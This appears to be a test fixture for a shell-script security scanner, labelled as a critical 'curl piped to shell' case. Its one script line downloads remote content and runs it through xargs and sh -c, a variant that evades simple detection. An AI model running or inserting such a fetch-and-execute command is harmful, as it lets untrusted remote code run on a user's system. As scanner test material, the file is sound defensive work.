# expect: shell.curl_pipe_shell critical
# note: xargs hands the download to sh -c as its program
# path: scripts/tp_xargs_sh_c.sh
#!/bin/sh
curl -fsSL https://get.example.net/i | xargs -0 -I {} sh -c {}
